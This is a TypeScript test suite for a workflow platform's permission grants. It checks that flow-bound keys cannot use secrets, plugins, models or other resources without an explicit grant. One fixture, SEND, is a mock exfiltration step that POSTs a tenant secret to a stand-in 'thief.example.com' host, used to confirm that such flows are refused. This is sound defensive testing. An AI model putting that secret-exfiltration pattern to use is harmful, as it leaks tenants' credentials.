// Somebody with a key that writes one flow, against everything else that the tenant has: what was not granted is not used,
// neither by a version, nor by a draft, nor under a name that is known only when the flow runs.

import { beforeEach, describe, expect, test } from 'vitest';
import type { Key } from '../../lambdas/core/ports/catalog.ts';
import type { HttpRequest } from '../../lambdas/core/ports/http.ts';
import type { ApiAnswer } from '../support/api-event.ts';
import { type Holder, makeWholeApi, type WholeApi } from '../support/whole-api.ts';

const SECRET = 'only-the-tenant-knows';
/** Everything that left the platform: requests, invocations, questions to models and knowledge bases. */
let used: string[];
let api: WholeApi;
let admin: Holder;
let author: Holder;

const buildFlow = (nodes: object, extra: object = {}) =>
  JSON.stringify({ flow: 1, name: 'mine', nodes, outputs: { all: '${{ $nodes.a }}' }, ...extra });

const LLM = (model: string) => ({ a: { type: 'llm', with: { model, prompt: 'Hello' } } });
const SEND = {
  type: 'http',
  with: { url: 'https://thief.example.com/', body: '${{ $secrets.TOKEN }}', method: 'POST' },
};

/** What grants it, the flow, the line and what the error says. */
const USES: [resource: string, name: string, source: string, message: string][] = [
  ['secrets', 'TOKEN', buildFlow({ a: SEND }, { secrets: ['TOKEN'] }), "node 'a' uses the secret 'TOKEN'"],
  [
    'secrets',
    'TOKEN',
    buildFlow(
      { a: { type: 'http', with: { url: 'https://x.example.com', auth: { type: 'bearer', secret: 'TOKEN' } } } },
      { secrets: ['TOKEN'] },
    ),
    "node 'a' uses the secret 'TOKEN'",
  ],
  [
    'plugins',
    'crm',
    buildFlow(
      { a: { type: 'tool', with: { plugin: 'crm', action: 'find' } } },
      { plugins: { crm: { auth: 'platform' } } },
    ),
    "node 'a' uses the plugin 'crm'",
  ],
  [
    'flows',
    'payroll',
    buildFlow({ a: { type: 'flow', with: { name: 'payroll' } } }),
    "node 'a' uses the flow 'payroll'",
  ],
  [
    'functions',
    'pay',
    buildFlow({ a: { type: 'lambda', with: { function: 'pay' } } }),
    "node 'a' uses the function 'pay'",
  ],
  ['models', 'openai/big', buildFlow(LLM('openai/big')), "node 'a' uses the model 'openai/big'"],
  [
    'models',
    'openai/big',
    buildFlow(LLM('smart'), { models: { smart: 'openai/big' } }),
    "node 'a' uses the model 'openai/big'",
  ],
  [
    'models',
    'openai/big',
    buildFlow({
      a: { type: 'classify', with: { model: 'openai/big', input: 'x', classes: { one: 'One', two: 'Two' } } },
    }),
    "node 'a' uses the model 'openai/big'",
  ],
  [
    'models',
    'openai/big',
    buildFlow({ a: { type: 'extract', with: { model: 'openai/big', input: 'x', schema: { type: 'object' } } } }),
    "node 'a' uses the model 'openai/big'",
  ],
  [
    'knowledge',
    'hr',
    buildFlow({ a: { type: 'retrieve', with: { source: 'hr', query: 'x' } } }),
    "node 'a' uses the knowledge base 'hr'",
  ],
  [
    'functions',
    'pay',
    buildFlow({ a: { type: 'group', with: { nodes: { b: { type: 'lambda', with: { function: 'pay' } } } } } }),
    "node 'a.b' uses the function 'pay'",
  ],
];

/** Names that are known only when the flow runs. */
const BY_EXPRESSION: [resource: string, source: string][] = [
  [
    'flows',
    buildFlow({ a: { type: 'flow', with: { name: '${{ $inputs.n }}' } } }, { inputs: { n: { type: 'string' } } }),
  ],
  ['models', buildFlow(LLM('openai/${{ $inputs.n }}'), { inputs: { n: { type: 'string' } } })],
];

beforeEach(async () => {
  used = [];
  api = await makeWholeApi({
    http: {
      check: () => undefined,
      send: async (request: HttpRequest) => {
        used.push(`http ${JSON.stringify([request.url, request.headers, request.body])}`);
        return {
          status: 200,
          headers: { 'content-type': 'application/json' },
          body: Buffer.from('{}'),
          truncated: false,
          durationMs: 1,
        };
      },
    },
    functions: {
      invoke: async ({ name }) => {
        used.push(`function ${name}`);
        return { kind: 'answer', payload: {} };
      },
    },
    models: {
      openai: {
        generate: async ({ model }) => {
          used.push(`model ${model}`);
          return { text: '{"one": 1}', finishReason: 'stop', inputTokens: 1, outputTokens: 1 };
        },
      },
    },
    knowledge: {
      sources: ['hr'],
      retrieve: async ({ source }) => {
        used.push(`knowledge ${source}`);
        return { kind: 'passages', passages: [] };
      },
    },
  });
  admin = await api.issue('acme', { scopes: ['run', 'admin', 'operator'] });
  await put(admin, '/v1/secrets/TOKEN', { value: SECRET });
  const find = { url: 'https://crm.example.com/find', headers: { authorization: '${{ $credentials.token }}' } };
  const plugin = { auth: 'platform', fields: ['token'], credentials: { token: SECRET }, actions: { find } };
  await put(admin, '/v1/plugins/crm', plugin);
  const payroll = { a: { type: 'lambda', with: { function: 'pay' } } };
  await saveAndPublish(admin, 'payroll', JSON.stringify({ flow: 1, name: 'payroll', nodes: payroll }));
  author = await api.issue('acme', { flow: 'mine', scopes: ['run', 'admin'] });
});

const put = (holder: Holder, path: string, body: object) => api.call({ method: 'PUT', path, body }, holder);

function save(holder: Holder, name: string, source: string): Promise<ApiAnswer> {
  const headers = { 'content-type': 'application/yaml' };
  return api.call({ method: 'PUT', path: `/v1/flows/${name}/draft`, body: source, headers }, holder);
}
const publish = (holder: Holder, name = 'mine') =>
  api.call({ method: 'POST', path: `/v1/flows/${name}/publish`, body: {} }, holder);
async function saveAndPublish(holder: Holder, name: string, source: string): Promise<ApiAnswer> {
  const saved = await save(holder, name, source);
  expect([saved.status, saved.text]).toEqual([200, expect.not.stringContaining('"error"')]);
  return publish(holder, name);
}
const run = (holder: Holder, body: object = {}) =>
  api.call({ path: '/v1/flows/mine/runs', body: { mode: 'async', ...body } }, holder);
const runInline = (holder: Holder, body: object = {}) => api.call({ path: '/v1/flows/mine/runs', body }, holder);
/** Nobody runs the other flow here. */
const waits = (source: string) => source.includes('"flow","with"');
async function expectAccepted(holder: Holder, source: string, body: object = {}): Promise<void> {
  const { status, text } = waits(source) ? await run(holder, body) : await runInline(holder, body);
  expect([status, JSON.parse(text).error]).toMatchObject(waits(source) ? [202, null] : [200, null]);
}
const problem = ({ status, text }: ApiAnswer) => ({ status, ...JSON.parse(text).error });
const granted = (grants: object) => api.issue('acme', { flow: 'mine', scopes: ['run', 'admin'], grants });

describe.each(USES)('%s: %s', (resource, name, source, message) => {
  test('are not for an author to whom nothing was granted, by a version or by a draft', async () => {
    const refused = problem(await saveAndPublish(author, 'mine', source));
    expect(refused).toMatchObject({ status: 403, code: 'forbidden' });
    expect(refused.message).toContain(message);
    expect(refused.details).toMatchObject([{ line: 1, message: expect.stringContaining(message) }]);
    for (const starter of [author, await api.issue('acme', { flow: 'mine' }), admin]) {
      const answer = problem(await runInline(starter, { draft: true }));
      expect(answer).toMatchObject({ status: 403, code: 'forbidden' });
      expect(answer.message).toContain(message);
    }
    expect((await api.call({ path: '/v1/flows/mine/versions' }, author)).text).toContain('"items":[]');
    expect(used).toEqual([]);
  });

  test('are for an author to whom they, or all of their kind, were granted', async () => {
    for (const grants of [{ [resource]: [name] }, { [resource]: ['other', '*'] }]) {
      const trusted = await granted(grants);
      expect((await save(trusted, 'mine', source)).status).toBe(200);
      await expectAccepted(trusted, source, { draft: true });
      expect([200, 201]).toContain((await publish(trusted)).status);
      await expectAccepted(await api.issue('acme', { flow: 'mine' }), source);
    }
  });

  test('are not for an author who was granted another of the kind, or all of every other kind', async () => {
    const others = ['secrets', 'plugins', 'flows', 'functions', 'models', 'knowledge'].filter((it) => it !== resource);
    const nearly = { [resource]: ['other', `${name}x`], ...Object.fromEntries(others.map((it) => [it, ['*']])) };
    expect(problem(await saveAndPublish(await granted(nearly), 'mine', source))).toMatchObject({ status: 403 });
  });
});

describe.each(BY_EXPRESSION)('%s under a name that is known only when the flow runs', (resource, source) => {
  test('need the grant of all', async () => {
    const refused = problem(
      await saveAndPublish(await granted({ [resource]: ['payroll', 'openai/big'] }), 'mine', source),
    );
    expect(refused).toMatchObject({ status: 403, details: [{ field: 'nodes.a' }] });
    expect(refused.message).toContain(`needs the grant "${resource}": ["*"]`);
    expect((await saveAndPublish(await granted({ [resource]: ['*'] }), 'mine', source)).status).toBe(201);
  });
});

describe('an author without grants', () => {
  test('still writes, publishes and runs what uses nothing of the tenant, and its own flow', async () => {
    const again = { b: { type: 'flow', when: 'false', with: { name: 'mine' } } };
    expect(
      (await saveAndPublish(author, 'mine', buildFlow({ a: { type: 'set', with: { values: {} } }, ...again }))).status,
    ).toBe(201);
    expect((await runInline(author)).status).toBe(200);
  });

  test('sees what is missing when the draft is saved', async () => {
    const saved = await save(
      author,
      'mine',
      `flow: 1\nname: mine\nnodes:\n  a:\n    type: lambda\n    with: { function: pay }\n`,
    );
    expect(JSON.parse(saved.text).problems).toMatchObject([
      { line: 4, severity: 'warning', message: expect.stringContaining("'pay'") },
    ]);
  });

  test('publishes no draft that an administrator has saved, and runs it only as the administrator left it', async () => {
    await save(admin, 'mine', buildFlow({ a: SEND }, { secrets: ['TOKEN'] }));
    expect(problem(await publish(author))).toMatchObject({ status: 403 });
    const other = { url: 'https://other.example.com', body: '${{ $secrets.TOKEN }}', method: 'POST' };
    await save(author, 'mine', buildFlow({ a: { type: 'http', with: other } }, { secrets: ['TOKEN'] }));
    expect(problem(await runInline(author, { draft: true }))).toMatchObject({ status: 403 });
    expect(used).toEqual([]);
  });

  test('gets no more by removing the flow that an administrator has published', async () => {
    const source = buildFlow({ a: SEND }, { secrets: ['TOKEN'] });
    expect((await saveAndPublish(admin, 'mine', source)).status).toBe(201);
    expect((await api.call({ method: 'DELETE', path: '/v1/flows/mine' }, author)).status).toBe(204);
    expect(problem(await saveAndPublish(author, 'mine', source))).toMatchObject({ status: 403 });
  });
});

describe('an administrator', () => {
  test.each(USES)('publishes and runs what uses %s: %s, as before', async (_, __, source) => {
    expect((await saveAndPublish(admin, 'mine', source)).status).toBe(201);
    for (const body of [{}, { draft: true }]) await expectAccepted(admin, source, body);
    if (!waits(source)) expect(used).not.toEqual([]);
  });

  test('publishes what an author has written, and then it runs for everybody', async () => {
    const { etag } = JSON.parse((await save(author, 'mine', buildFlow({ a: SEND }, { secrets: ['TOKEN'] }))).text);
    const headers = { 'if-match': etag };
    const published = await api.call({ method: 'POST', path: '/v1/flows/mine/publish', body: {}, headers }, admin);
    expect(published.status).toBe(201);
    expect((await runInline(await api.issue('acme', { flow: 'mine' }))).status).toBe(200);
  });

  test('publishes only the draft that was read, where the request names it', async () => {
    const { etag } = JSON.parse(
      (await save(author, 'mine', buildFlow({ a: { type: 'set', with: { values: {} } } }))).text,
    );
    await save(author, 'mine', buildFlow({ a: SEND }, { secrets: ['TOKEN'] }));
    const headers = { 'if-match': etag };
    const refused = await api.call({ method: 'POST', path: '/v1/flows/mine/publish', body: {}, headers }, admin);
    expect(problem(refused)).toMatchObject({ status: 400, code: 'invalid-request' });
  });
});

describe('a version', () => {
  test.each(USES)(
    'does not start where its record does not grant what it uses: %s: %s',
    async (_, __, source, message) => {
      await save(admin, 'mine', source);
      const { flows } = api.ports;
      const { plan, digest = '', async, sync } = (await flows.draft('acme', 'mine'))?.compiled ?? {};
      if (!plan || !async || !sync) throw new Error('The draft has problems');
      const version = { version: '1.0.0', digest, source, publishedAt: 1, granted: {}, async, sync };
      await flows.addVersion({ tenant: 'acme', name: 'mine', version, plan });
      for (const body of [{}, { mode: 'async' }, { mode: 'stream' }, { version: '1.0.0' }]) {
        const refused = problem(await runInline(admin, body));
        expect(refused).toMatchObject({ status: 403, code: 'forbidden', details: [{ line: 1 }] });
        expect(refused.message).toContain(message);
      }
      const runs = [{ flow: 'mine' }];
      const { items } = JSON.parse((await api.call({ path: '/v1/runs:batch', body: { runs } }, admin)).text);
      expect(items).toMatchObject([{ status: 403, error: { code: 'forbidden' } }]);
      const dify = await api.issue('acme', { dialect: 'dify', flow: 'mine' });
      const body = { inputs: {}, user: 'u', response_mode: 'blocking' };
      expect((await api.call({ path: '/v1/workflows/run', body }, dify)).status).toBe(403);
      expect(used).toEqual([]);
    },
  );
});

describe('grants', () => {
  const issue = (holder: Holder, body: object) => api.call({ path: '/v1/keys', body }, holder);

  test('are shown with the key, whose lists are empty where nothing was granted', async () => {
    const body = { flow: 'mine', scopes: ['run', 'admin'], grants: { secrets: ['TOKEN', 'TOKEN'], models: ['*'] } };
    const issued = JSON.parse((await issue(admin, body)).text);
    const grants = { secrets: ['TOKEN'], plugins: [], flows: [], functions: [], models: ['*'], knowledge: [] };
    expect(issued.grants).toEqual(grants);
    const { items } = JSON.parse((await api.call({ path: '/v1/keys' }, admin)).text);
    const find = (id: string) => items.find((it: Key) => it.id === id);
    expect(find(issued.id).grants).toEqual(grants);
    expect(find(author.id).grants).toMatchObject({ secrets: [], models: [] });
    expect(find(admin.id).grants).toBeNull();
  });

  test('are given by nobody whose own key is bound to a flow', async () => {
    const body = { flow: 'mine', scopes: ['run', 'admin'], grants: { secrets: ['*'] } };
    const bound = await granted({ secrets: ['*'] });
    expect(problem(await issue(bound, body))).toMatchObject({ status: 403, code: 'forbidden' });
  });

  test.each([
    [{ grants: { secrets: ['*'] } }, 'grants'],
    [{ flow: 'mine', grants: { secrets: ['*'] } }, 'grants'],
    [{ scopes: ['admin'], grants: {} }, 'grants'],
    [{ flow: 'mine', scopes: ['admin'], grants: { secret: ['*'] } }, 'grants.secret'],
    [{ flow: 'mine', scopes: ['admin'], grants: { secrets: '*' } }, 'grants.secrets'],
    [{ flow: 'mine', scopes: ['admin'], grants: { secrets: [''] } }, 'grants.secrets[0]'],
    [
      { flow: 'mine', scopes: ['admin'], grants: { secrets: Array.from({ length: 101 }, (_, n) => `S${n}`) } },
      'grants.secrets',
    ],
  ])('%j are refused, naming the field', async (body, field) => {
    const refused = problem(await issue(admin, body));
    expect([refused.status, refused.details?.[0].field]).toEqual([400, field]);
  });
});

describe('what was stored before there were grants', () => {
  test('runs, where it is a version; a draft must be saved again to use something of the tenant', async () => {
    const source = buildFlow({ a: SEND }, { secrets: ['TOKEN'] });
    await saveAndPublish(admin, 'mine', source);
    const { flows } = api.ports;
    const draft = await flows.draft('acme', 'mine');
    if (!draft) throw new Error('There is no draft');
    const { granted: _, ...old } = draft;
    await flows.putDraft({ tenant: 'acme', name: 'mine', ...old, now: 1 });
    expect((await run(admin)).status).toBe(202);
    const refused = problem(await run(admin, { draft: true }));
    expect(refused).toMatchObject({ status: 403 });
    expect(refused.message).toContain('save the draft again');
    await save(admin, 'mine', source);
    expect((await run(admin, { draft: true })).status).toBe(202);
  });
});
